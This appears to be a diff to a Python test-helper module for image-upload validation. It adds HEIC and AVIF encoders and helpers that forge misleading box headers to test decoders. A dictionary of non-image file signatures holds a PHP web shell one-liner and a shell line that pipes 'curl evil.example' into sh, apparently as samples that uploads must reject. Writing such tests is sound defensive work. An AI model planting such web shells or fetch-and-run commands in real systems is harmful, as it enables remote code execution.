@@ -12,6 +12,7 @@ import zlib
 from pathlib import Path
 from typing import Any
 
+import pillow_heif
 from PIL import Image, ImageCms, ImageDraw, ImageFile
 
 RED = (220, 20, 30)
@@ -288,7 +289,11 @@ def jpeg_with_junk_before_a_marker(junk: bytes = b"\x01\x02") -> bytes:
 
 def fixture(name: str) -> bytes:
     """A file kept under tests/fixtures/ (sources in its README)."""
-    return (Path(__file__).parent / "fixtures" / name).read_bytes()
+    return fixture_path(name).read_bytes()
+
+
+def fixture_path(name: str) -> Path:
+    return Path(__file__).parent / "fixtures" / name
 
 
 def twelve_bit_jpeg() -> bytes:
@@ -332,8 +337,8 @@ def magic_of_other_formats() -> dict[str, bytes]:
         "tiff": encode(solid((4, 4)), "TIFF"),
         "ico": encode(solid((16, 16)), "ICO"),
         "pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
-        "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",
-        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
+        "mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
+        "jpeg2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n\x00\x00\x00\x14ftypjp2 ",
         "php": b"<?php system($_GET['c']); ?>",
         "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
         "svg": svg_with_script(),
@@ -347,3 +352,59 @@ def decoded(data: bytes) -> ImageFile.ImageFile:
     im = Image.open(io.BytesIO(data))
     im.load()
     return im
+
+
+# --- HEIF and AVIF: pillow-heif writes HEIC, Pillow writes AVIF ----------------------------
+
+
+def heic(im: Image.Image | None = None, **options: Any) -> bytes:
+    pillow_heif.register_heif_opener()
+    return encode(im or solid(), "HEIF", **options)
+
+
+def avif(im: Image.Image | None = None, **options: Any) -> bytes:
+    return encode(im or solid(), "AVIF", **options)
+
+
+def oriented(fmt: str, orientation: int, size: tuple[int, int] = (64, 48)) -> bytes:
+    """The quadrants picture stored turned, with the orientation for the writer to record:
+    both write it as `irot`/`imir` boxes, the way the HEIF specification wants."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    return (heic if fmt == "HEIF" else avif)(stored_as(orientation, size), exif=exif.tobytes())
+
+
+def isobmff_box(data: bytes, kind: bytes) -> int:
+    """Where the box of this type starts (its size field)."""
+    return data.index(kind) - 4
+
+
+def with_ispe(data: bytes, width: int, height: int) -> bytes:
+    """Every `ispe` box rewritten to claim width x height: a header that lies."""
+    out = bytearray(data)
+    pos = out.find(b"ispe")
+    while pos >= 0:
+        out[pos + 8 : pos + 16] = struct.pack(">II", width, height)
+        pos = out.find(b"ispe", pos + 4)
+    return bytes(out)
+
+
+def unrotated(data: bytes) -> bytes:
+    """The `irot` box set to no rotation: its EXIF block still says otherwise."""
+    pos = data.index(b"irot")
+    return data[: pos + 4] + b"\0" + data[pos + 5 :]
+
+
+def avif_sequence(frames: int = 3, size: tuple[int, int] = (32, 32)) -> bytes:
+    images = [solid(size, (40 * i % 256, 90, 160)) for i in range(frames)]
+    return encode(images[0], "AVIF", save_all=True, append_images=images[1:], duration=80)
+
+
+def with_sample_count(data: bytes, count: int) -> bytes:
+    """Every track's `stsz` box claiming count samples: many frames, without encoding them."""
+    out = bytearray(data)
+    pos = out.find(b"stsz")
+    while pos >= 0:
+        out[pos + 12 : pos + 16] = struct.pack(">I", count)
+        pos = out.find(b"stsz", pos + 4)
+    return bytes(out)
